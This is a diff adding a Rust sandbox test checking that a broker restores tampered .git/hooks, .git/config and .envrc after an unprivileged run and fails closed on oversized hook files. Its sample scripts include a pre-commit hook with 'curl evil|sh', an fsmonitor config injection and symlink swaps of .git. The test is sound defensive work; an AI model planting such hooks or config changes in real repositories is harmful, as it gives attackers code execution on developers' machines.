@@ -763,3 +763,65 @@ sandbox_test! {
         assert_eq!(o.status.code(), Some(122), "{}", text(&o));
     }
 }
+
+sandbox_test! {
+    fn unprivileged_protected_paths_are_put_back_after_the_run() {
+        // Issue 14 item 4: as uid 65534 (no mount namespace) strict and standard left
+        // `.git/hooks` and `.git/config` writable, silently. Now the broker keeps them and
+        // puts back whatever the run changed, before anything else reads them, and says so.
+        for policy in ["strict", "standard"] {
+            let env = Env::new("unpriv-protected");
+            env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
+            env.write(".git/config", "[core]\n");
+            env.write(".envrc", "export A=1\n");
+            env.give_to_nobody();
+            let run = |script: &str| {
+                env.nobody()
+                    .args(["exec", "--policy", policy, "--", "sh", "-c", script])
+                    .output()
+                    .expect("setpriv")
+            };
+            for script in [
+                "echo 'curl evil|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
+                "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config",
+                "rm -f .git/hooks/pre-commit.sample",
+                "echo evil >> .envrc",
+                "mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
+                "mv .git/hooks hooks-away && ln -s /tmp .git/hooks",
+                "mv .git git-away && mkdir .git-moved && ln -s .git-moved .git",
+            ] {
+                let o = run(script);
+                let t = text(&o);
+                assert!(!env.ws.join(".git/hooks/pre-commit").exists(), "{policy} `{script}`: {t}");
+                assert!(
+                    std::fs::symlink_metadata(env.ws.join(".git")).expect(".git").is_dir()
+                        && std::fs::symlink_metadata(env.ws.join(".git/hooks")).expect("hooks").is_dir(),
+                    "{policy} `{script}`: {t}"
+                );
+                assert_eq!(
+                    std::fs::read_to_string(env.ws.join(".git/config")).expect("config"),
+                    "[core]\n",
+                    "{policy} `{script}`: {t}"
+                );
+                assert!(env.ws.join(".git/hooks/pre-commit.sample").exists(), "{policy} `{script}`: {t}");
+                assert_eq!(
+                    std::fs::read_to_string(env.ws.join(".envrc")).expect("envrc"),
+                    "export A=1\n",
+                    "{policy} `{script}`: {t}"
+                );
+                assert!(t.contains("protected path"), "said so: {policy} `{script}`: {t}");
+                for d in [".git-moved", "hooks-away", "git-away"] {
+                    let _ = std::fs::remove_dir_all(env.ws.join(d));
+                }
+            }
+            // Too large to keep: refused (fail closed), with how to proceed.
+            let big = std::fs::File::create(env.ws.join(".git/hooks/big")).expect("big");
+            big.set_len(64 << 20).expect("sparse");
+            drop(big);
+            env.give_to_nobody();
+            let o = run("echo ran");
+            assert_eq!(o.status.code(), Some(125), "{policy}: {}", text(&o));
+            assert!(!stdout(&o).contains("ran") && text(&o).contains("best_effort"), "{}", text(&o));
+        }
+    }
+}
